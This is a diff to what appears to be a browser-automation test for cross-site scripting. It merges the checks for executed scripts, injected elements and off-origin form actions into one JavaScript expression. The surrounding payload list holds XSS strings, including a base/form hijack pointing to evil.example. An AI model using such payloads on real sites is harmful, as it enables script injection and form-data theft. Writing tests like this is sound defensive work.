@@ -31,6 +31,12 @@ PAYLOADS = (
     f"--><iframe srcdoc='<script>parent.{MARK}</script>'>",
     "<base href=//evil.example/><form action=//evil.example><button autofocus onfocus=alert(1)>",
 )
+HARMS = """() => [window.ran ?? 0,
+    document.querySelectorAll('script:not([src]), iframe, base, object, embed, img[src=x], [onerror], [onload], ' +
+        '[onfocus], a[href^="javascript:" i]').length,
+    [...document.forms].map(each => new URL(each.getAttribute('action') ?? '', location))
+        .filter(each => each.origin !== location.origin).length]"""
+"""Scripts of the text that ran, elements that it became, forms that lead elsewhere."""
 TEXTS = {"name", "address", "note", "reason", "mail", "upn", "named"}
 SETTINGS = {
     "ENVIRONMENT": "local",
@@ -223,16 +229,4 @@ def fill(page: Page, there: str, town: World, payload: str) -> None:
 
 def harmless(page: Page) -> None:
     """Nothing of the text became markup, and nothing of it ran."""
-    assert page.evaluate("window.ran ?? 0") == 0
-    assert (
-        page.evaluate(
-            "[...document.querySelectorAll('script:not([src]), iframe, base, object, embed, "
-            'img[src=x], [onerror], [onload], [onfocus], a[href^="javascript:" i]\')].length'
-        )
-        == 0
-    ), page.url
-    away = (
-        "[...document.forms].map(each => new URL(each.getAttribute('action') ?? '', location))"
-        ".filter(each => each.origin !== location.origin).length"
-    )
-    assert page.evaluate(away) == 0
+    assert page.evaluate(HARMS) == [0, 0, 0], page.url
